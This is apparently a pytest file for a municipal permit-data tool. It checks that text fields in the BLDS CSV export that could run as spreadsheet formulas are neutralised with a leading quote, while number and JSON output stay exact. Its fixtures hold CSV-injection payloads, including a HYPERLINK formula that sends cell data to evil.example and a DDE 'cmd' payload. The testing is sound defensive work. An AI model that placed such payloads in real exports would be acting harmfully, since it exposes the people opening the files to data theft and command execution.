"""The BLDS export's CSV is opened by clerks in a spreadsheet: a text field an applicant or an official wrote
(a description, an address, a name, notes) that a spreadsheet would run as a formula is written after a single
quote (the rule of `publicassembly.documents.csv_cells`, as the batch's CSV), the number fields (a longitude of
-73.79) never are, and the JSON form gives every text exactly as it was. (A review found applicants' text written
to the CSV with no protection.)"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from publicassembly.cli import app
from publicassembly.documents import blds
from publicassembly.documents.csv_cells import RULE_IN_WORDS, neutralised_text, starts_a_formula

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'

PERMIT = blds.BldsPermitRow(
    permit_num="@PA-1", description=HYPERLINK, status="issued", issued_date=date(2025, 7, 1),
    address1="  =1+1", address2="\n=1+1", city="＝SUM(1)", zip="-", jurisdiction="Town of Carmel",
    pin="a=1", proposed_use="Hall - east", publisher="\tTown", permit_type_desc="",
    total_sq_ft=Decimal("4650"), latitude=Decimal("41.3920"), longitude=Decimal("-73.7949"), fee=Decimal("-5"),
    extra={"permittee": "=cmd|' /C calc'!A0"})

INSPECTION = blds.BldsInspectionRow(
    permit_num="PA-1", kind="cleanup", inspected_date=date(2025, 8, 22), result="failed", notes="\r=1+1",
    description="+ litter left", inspector="@inspector", extra={"note": "-"})


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_permit_text_fields_are_written_after_a_quote():
    row = _rows(blds.permits_csv([PERMIT]))[0]
    assert row["Description"] == "'" + HYPERLINK
    assert row["PermitNum"] == "'@PA-1"
    assert (row["OriginalAddress1"], row["OriginalAddress2"]) == ("'  =1+1", "'\n=1+1")
    assert row["OriginalCity"] == "'＝SUM(1)" and row["OriginalZip"] == "'-"
    assert row["Publisher"] == "'\tTown"
    # written as they are: no formula at the start
    assert (row["PIN"], row["ProposedUse"], row["Jurisdiction"]) == ("a=1", "Hall - east", "Town of Carmel")
    assert row["PermitTypeDesc"] == "" and row["IssuedDate"] == "2025-07-01"
    assert json.loads(row["ExtraFields"]) == {"permittee": "=cmd|' /C calc'!A0"}  # (inside JSON text: no start)
    assert not any(starts_a_formula(v) for name, v in row.items() if name not in blds.NUMBER_FIELDS)


def test_permit_number_fields_are_written_as_they_are():
    row = _rows(blds.permits_csv([PERMIT]))[0]
    assert (row["Longitude"], row["Latitude"], row["Fee"], row["TotalSqFt"]) == ("-73.7949", "41.3920", "-5", "4650")
    assert set(blds.PERMIT_FIELDS) >= blds.NUMBER_FIELDS


def test_every_text_field_goes_through_the_rule():
    """Each text field of the record as `neutralised_text` writes it; each number field as the record gives it."""
    record = blds.permit_record(PERMIT)
    row = _rows(blds.permits_csv([PERMIT]))[0]
    assert row == {name: value if name in blds.NUMBER_FIELDS else neutralised_text(value)
                   for name, value in record.items()}


def test_inspection_text_fields_are_written_after_a_quote():
    row = _rows(blds.inspections_csv([INSPECTION]))[0]
    assert (row["InspectionNotes"], row["Description"], row["Inspector"]) == (
        "'\r=1+1", "'+ litter left", "'@inspector")
    assert (row["Final"], row["ReInspection"], row["Result"]) == ("0", "0", "failed")


def test_json_gives_the_text_as_it_was():
    permit = json.loads(blds.permits_json([PERMIT]))[0]
    assert permit["Description"] == HYPERLINK and permit["OriginalAddress1"] == "  =1+1"
    assert permit["OriginalCity"] == "＝SUM(1)" and permit["PermitNum"] == "@PA-1"
    assert permit["Longitude"] == -73.7949  # (a number: BLDS gives Longitude as a number, not text)
    inspection = json.loads(blds.inspections_json([INSPECTION]))[0]
    assert inspection["InspectionNotes"] == "\r=1+1" and inspection["Inspector"] == "@inspector"


def _from_json(tmp_path: Path) -> Path:
    src = tmp_path / "blds.json"
    src.write_text(json.dumps({
        "permits": [{"permit_num": "PA-1", "description": HYPERLINK, "status": "issued",
                     "issued_date": "2025-07-01", "address1": " @SUM(1)", "city": "＋1",
                     "latitude": "41.392", "fee": "25.00"}],
        "inspections": [{"permit_num": "PA-1", "kind": "cleanup", "inspected_date": "2025-08-22",
                         "result": "passed", "notes": "\n-5", "inspector": "A. Inspector"}],
    }), encoding="utf-8")
    return src


@pytest.mark.parametrize("dataset", ["permits", "inspections"])
def test_the_export_command_writes_csv_safe_and_json_exact(tmp_path, dataset):
    src = _from_json(tmp_path)
    runner = CliRunner()
    out_csv, out_json = tmp_path / f"{dataset}.csv", tmp_path / f"{dataset}.json"
    for fmt, out in (("csv", out_csv), ("json", out_json)):
        result = runner.invoke(app, ["export", "blds", "--from-json", str(src), "--dataset", dataset,
                                     "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, result.output
    row, exact = _rows(out_csv.read_bytes())[0], json.loads(out_json.read_text(encoding="utf-8"))[0]
    if dataset == "permits":
        assert (row["Description"], row["OriginalAddress1"], row["OriginalCity"]) == (
            "'" + HYPERLINK, "' @SUM(1)", "'＋1")
        assert (row["Latitude"], row["Fee"]) == ("41.392", "25.00")
        assert (exact["Description"], exact["OriginalAddress1"], exact["OriginalCity"]) == (
            HYPERLINK, " @SUM(1)", "＋1")
    else:
        assert (row["InspectionNotes"], row["Inspector"]) == ("'\n-5", "A. Inspector")
        assert exact["InspectionNotes"] == "\n-5"


def test_the_export_help_says_it():
    shown = " ".join(CliRunner().invoke(app, ["export", "blds", "--help"], env={"COLUMNS": "200"}).output.split())
    assert " ".join(RULE_IN_WORDS.split()) in shown
    assert "number fields (TotalSqFt, Latitude, Longitude, Fee ...) are written as they are" in shown
